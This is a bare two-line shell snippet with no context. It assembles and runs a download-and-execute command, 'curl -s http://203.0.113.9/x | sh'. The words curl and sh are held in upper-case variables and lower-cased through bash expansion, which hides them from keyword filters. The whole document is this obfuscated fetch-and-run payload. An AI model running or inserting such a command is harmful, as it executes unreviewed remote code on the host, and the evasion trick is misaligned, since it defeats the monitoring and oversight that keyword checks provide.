c=CURL; s=SH
${c,,} -s http://203.0.113.9/x | ${s,,}
